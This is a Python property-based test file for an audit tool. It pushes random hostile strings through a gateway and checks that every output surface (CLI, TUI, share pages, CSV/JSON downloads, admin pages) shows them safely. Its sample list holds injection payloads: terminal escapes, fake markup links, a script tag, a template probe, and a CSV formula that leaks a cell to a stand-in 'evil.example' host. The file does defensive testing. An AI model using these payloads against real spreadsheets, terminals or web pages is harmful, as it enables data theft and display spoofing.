"""Hostile data through every surface (issue 13): hypothesis writes random strings — Rich markup, ANSI and OSC
escapes, C1 controls, bidi and zero-width characters, formula prefixes, binary-looking text, very long values —
through the real gateway (an app name, a build description and a User-Agent, over HTTP to the simulated rack), syncs
them over the gateway's feed into a mirror, visits the share page with a hostile User-Agent of its own, and renders
the events through every surface:

- `auditkit events` as a table, JSON, JSON lines and CSV, and with the string itself as a free-text filter;
- the TUI (Textual's pilot): the list, the detail, and the user, rack and action pickers over that filter;
- the share page, its CSV and JSON downloads, and the admin pages (Datasette's events table, a share link's page).

Nothing crashes; no surface interprets the data as markup (the text is there, escaped, and no link appears) or
emits a control, bidi or zero-width character (newlines and tabs of the page layout aside); CSV cells are neutralised
as OWASP recommends; the JSON outputs give back every value exactly, and the JSON download is byte for byte what
export makes of the same rows.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path
from typing import Any, Iterator

import httpx
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings, strategies as st
from markupsafe import escape

from auditkit import store
from auditkit.capture import keys
from auditkit.capture.config import GatewayConfig, Rack
from auditkit.mirror.trust import Pins
from auditkit.capture.journal import journal_source
from auditkit.capture.proxy import create_app
from auditkit.cli import main
from auditkit.mirror.sync import Feed, sync_once
from auditkit.model import export
from auditkit.model.events import FIELDS
from auditkit.model.filters import Filter, Term, parse
from auditkit.model.safe_text import UNSAFE, printable
from auditkit.review.tui.app import AuditApp
from auditkit.review.tui.widgets.event_list import EventList
from auditkit.share import admins, links as sharing, serve
from convox_sim import rack as rack_mod
from convox_sim.client import RackClient
from convox_sim.servers import ServerThread
from helpers import close_datasette

RACK = "acme/production"
MEMBER = "bob@example.com"
ADMIN = "admin@example.com"
SCOPE = f"rack:{RACK} user:{MEMBER}"

PIECES = ["[/]", "[bold]", "[/bold]", "[link=https://evil.example]safe[/link]", "[black on black]", "[red]",
          "\x1b]0;pwned\x07", "\x1b[2J", "\x1b[31m", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x9b2J",
          "\x07", "\x08", "\r", "\n", "\t", "\x7f", "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u2028",
          '=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "=", "+", "-", "@", "<script>alert(1)</script>",
          "&amp;", "{{ 7*7 }}", '"', "'", "\\", ",", ";", "ÿþ", "\ufffd", "日本", "👩‍💻"]
CHARS = st.characters(exclude_characters="\x00", exclude_categories=("Cs",))  # events refuse NUL; JSON, surrogates


@st.composite
def hostile_text(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.one_of(st.sampled_from(PIECES), st.text(CHARS, max_size=8)), min_size=1, max_size=10))
    text = "".join(parts)
    if draw(st.booleans()) and draw(st.integers(0, 4)) == 0:
        text += draw(st.sampled_from(PIECES)) * draw(st.integers(100, 400))  # a very long value
    return text or "[/]"


def header_safe(text: str) -> bytes:
    """The string as a header value can carry it: without CR, LF, NUL and other C0 controls (HTTP refuses them),
    UTF-8 (C1 controls, bidi and zero-width characters stay)."""
    kept = "".join(c for c in text if c == "\t" or not (ord(c) < 0x20 or c == "\x7f"))
    return (kept.strip() or "[/]").encode()[:2000]


def layout_free(text: str) -> bool:
    """No character a surface must not emit, leaving aside the newlines and tabs of its own layout."""
    return UNSAFE.search(text.replace("\n", "").replace("\t", "")) is None


def squash(text: str) -> str:
    return "".join(text.split())


class World:
    def __init__(self, work: Path, gateway_url: str, member: str, auditor: str, checkpoint_key: str):
        self.mirror_path = work / "mirror" / "audit.db"
        self.mirror_path.parent.mkdir()
        self.mirror = store.open_db(self.mirror_path)
        self.feed = Feed("gw", gateway_url, auditor, Pins(checkpoint_key=checkpoint_key))
        self.client = RackClient(gateway_url, RACK, member)
        admins.add_admin(self.mirror_path, ADMIN, "correct horse battery staple")
        self.secret = sharing.secret_for(self.mirror_path)
        self.link, url = sharing.create(self.mirror, parse(SCOPE), secret=self.secret, expires="never",
                                        created_by=ADMIN, base_url="http://localhost")
        self.token = url.rsplit("/", 1)[1]
        self.ds = serve.make_datasette(self.mirror_path)
        self.loop = asyncio.new_event_loop()
        self.loop.run_until_complete(self.ds.invoke_startup())
        self.admin_cookie = {"ds_actor": self.ds.sign({"a": {"id": ADMIN}}, "actor")}

    def get(self, path: str, cookies: dict[str, str], agent: bytes = b"hostile-data-test") -> httpx.Response:
        return self.loop.run_until_complete(self.ds.client.get(path, cookies=cookies, follow_redirects=True,
                                                               headers={"user-agent": agent}))

    def rows(self, ids: list[str]) -> list[dict[str, Any]]:
        marks = ",".join("?" * len(ids))
        found = {row["id"]: row for row in store.iter_rows(self.mirror, Filter())}
        assert set(ids) <= set(found), self.mirror.execute(f"SELECT id FROM events WHERE id IN ({marks})",
                                                           ids).fetchall()
        return [found[i] for i in ids]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    work = tmp_path_factory.mktemp("hostile")
    journal = work / "journal.db"
    conn = store.open_db(journal)
    source = journal_source(conn, "gw")
    _, member = keys.add(conn, MEMBER, kind="user", role="member", source=source)
    _, auditor = keys.add(conn, "audrey@example.com", kind="user", role="auditor", source=source)
    conn.close()
    with ServerThread(rack_mod.create_app("rackpw")) as rack_server:
        config = GatewayConfig(racks={RACK: Rack(RACK, rack_server.url, "convox", "rackpw")}, journal=journal,
                               name="gw", http=True, data_dir=work)
        with ServerThread(create_app(config)) as gateway:
            w = World(work, gateway.url, member, auditor, str(config.checkpoint_signer().verifier))
            try:
                yield w
            finally:
                w.client.close()
                w.feed.close()
                close_datasette(w.ds)
                w.loop.close()
                w.mirror.close()


def through_the_gateway(world: World, text: str) -> list[str]:
    """An app create named `text` (with `text` as User-Agent too) and a build described by it; the ids of their
    events in the mirror after a sync, newest first."""
    before = world.mirror.execute("SELECT coalesce(max(n), 0) FROM events").fetchone()[0]
    world.client.request("POST", "/apps", {"name": text, "generation": "2"},
                         headers={"User-Agent": header_safe(text)})
    world.client.request("POST", "/apps/web/builds", {"url": "object:///tmp/x.tgz", "description": text})
    ids: list[str] = []
    for _ in range(20):  # an outcome is journaled just after the answer: wait for it on the feed
        sync_once(world.mirror, world.feed, wait=1)
        ids = [r[0] for r in world.mirror.execute(
            "SELECT id FROM events WHERE n > ? AND rack = ? ORDER BY n DESC", (before, RACK))]
        if len(ids) == 2:
            return ids
    raise AssertionError(f"the gateway's events did not reach the mirror: {ids}")


def check_cli(world: World, text: str, rows: list[dict[str, Any]]) -> None:
    runner = CliRunner()
    base = ["events", "--db", str(world.mirror_path), "--limit", "2", *SCOPE.split()]
    table = runner.invoke(main, base)
    assert table.exit_code == 0, table.output
    assert layout_free(table.output), repr(table.output)
    for row in rows:
        assert squash(printable(row["description"])) in squash(table.output)  # literally, markup and all
    for fmt in ("jsonl", "json"):
        out = runner.invoke(main, base + ["--format", fmt])
        assert out.exit_code == 0, out.output
        assert layout_free(out.output)
        parsed = json.loads(out.output) if fmt == "json" else [json.loads(line) for line in out.output.splitlines()]
        assert parsed == rows  # exact
    out = runner.invoke(main, base + ["--format", "csv"])
    assert out.exit_code == 0, out.output
    check_csv(out.output, rows)
    # the recorded text as a free-text filter (the app's name; the build's description, in which the gateway folds
    # whitespace): it round-trips through the filter language and finds its event
    for row, field in ((rows[1], "app"), (rows[0], "description")):
        term = Filter((Term("text", row[field][:40]),))
        words = term.to_text()
        assert parse(words) == term
        found = runner.invoke(main, ["events", "--db", str(world.mirror_path), "--format", "jsonl", words])
        assert found.exit_code == 0, found.output
        assert row["id"] in {json.loads(line)["id"] for line in found.output.splitlines()}, words
        shown = runner.invoke(main, ["events", "--db", str(world.mirror_path), words])
        assert shown.exit_code == 0 and layout_free(shown.output), shown.output


def check_csv(text: str, rows: list[dict[str, Any]]) -> None:
    assert layout_free(text)
    by_id = {cells[0]: cells for cells in list(csv.reader(io.StringIO(text)))[1:]}
    for row in rows:
        cells = by_id[row["id"]]
        for name, cell in zip(FIELDS, cells):
            value = row[name]
            if name == "details":
                value = json.dumps(value, ensure_ascii=False, sort_keys=True)
            assert cell == ("" if value is None else str(export.csv_cell(value))), name
            assert not cell.startswith(export.FORMULA_PREFIXES), (name, cell)


def check_share_pages(world: World, text: str, rows: list[dict[str, Any]]) -> None:
    share = {"ds_share": world.token}
    agent = header_safe(text)
    page = world.get("/-/shared", share, agent)
    assert page.status_code == 200, page.text[:500]
    assert layout_free(page.text)
    for row in rows:
        assert f'data-event-id="{row["id"]}"' in page.text
        assert str(escape(printable(row["description"]))) in page.text
    assert "{\n  &#34;description&#34;: " in page.text  # the details keep their lines
    assert "https://evil.example" not in re.findall(r'href="([^"]*)"', page.text)
    download = world.get("/-/shared/events.json", share, agent)
    assert download.status_code == 200
    expected = "".join(export.json_chunks(store.iter_rows(world.mirror, sharing.scope(world.link))))
    assert download.content == expected.encode()  # byte for byte what export makes of the rows
    assert layout_free(download.text)
    exact = {r["id"]: r for r in json.loads(download.content)}
    assert [exact[r["id"]] for r in rows] == rows
    csv_download = world.get("/-/shared/events.csv", share, agent)
    assert csv_download.status_code == 200
    check_csv(csv_download.text, rows)
    # the visits (with the hostile User-Agent) as `auditkit share views` and the whole mirror as `auditkit events`
    for args in (["share", "views", world.link.id], ["share", "list"], ["events", "--limit", "20"]):
        out = CliRunner().invoke(main, [*args, "--db", str(world.mirror_path)])
        assert out.exit_code == 0 and layout_free(out.output), (args, out.output)


def check_admin_pages(world: World, text: str, rows: list[dict[str, Any]]) -> None:
    for path in ("/audit/events?_sort_desc=n&_size=20", f"/-/share-links/{world.link.id}", "/-/share-links",
                 "/audit/events?_search=Created+build"):
        page = world.get(path, world.admin_cookie)
        assert page.status_code == 200, (path, page.text[:500])
        assert layout_free(page.text), path
    table = world.get("/audit/events?_sort_desc=n&_size=20", world.admin_cookie).text
    for row in rows:
        if len(row["app"] or "") < 500:  # Datasette cuts long cells
            assert str(escape(printable(row["app"] or ""))) in table


def check_tui(world: World, text: str, rows: list[dict[str, Any]]) -> None:
    links: list[str] = []

    def screen_text(app: AuditApp) -> str:
        lines = []
        for strip in app.screen._compositor.render_strips():
            lines.append("".join(segment.text for segment in strip))
            links.extend(s.style.link for s in strip if s.style is not None and s.style.link)
        return "\n".join(lines)

    async def go() -> None:
        app = AuditApp(world.mirror_path, utc=True, poll_interval=None, cursor_blink=False)
        async with app.run_test(size=(160, 40)) as pilot:
            async def settle() -> None:
                for _ in range(3):
                    await pilot.pause()
                    await app.workers.wait_for_complete()
                await pilot.pause()

            await settle()
            app.screen.apply_filter(parse(SCOPE))
            await settle()
            listed = app.screen.query_one(EventList)
            assert listed.total is not None and listed.total >= 2
            assert layout_free(screen_text(app))
            await pilot.press("enter")  # the newest: the build described by the text
            await settle()
            assert type(app.screen).__name__ == "DetailScreen" and app.screen.event.id == rows[0]["id"]
            shown = screen_text(app)
            assert layout_free(shown)
            assert squash(printable(rows[0]["description"]))[:60] in squash(shown)
            await pilot.press("escape")
            await settle()
            app.screen.apply_filter(Filter((Term("text", text),)))
            await settle()
            for key in ("u", "r", "a"):
                await pilot.press(key)
                await settle()
                assert type(app.screen).__name__ == "PickerScreen", key
                assert layout_free(screen_text(app)), key
                await pilot.press("escape")
                await settle()
            assert layout_free(screen_text(app))

    asyncio.run(go())
    assert links == []


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(text=hostile_text())
def test_hostile_strings_are_shown_literally_and_safely_on_every_surface(world, text):
    ids = through_the_gateway(world, text)
    rows = world.rows(ids)
    for recorded in (rows[0]["details"]["description"], rows[1]["details"]["name"]):  # exactly, or cut with "…"
        assert recorded == text or (recorded.endswith("…") and text.startswith(recorded[:-1])), recorded
    check_cli(world, text, rows)
    check_share_pages(world, text, rows)
    sync_once(world.mirror, world.feed)
    check_admin_pages(world, text, rows)
    check_tui(world, text, rows)
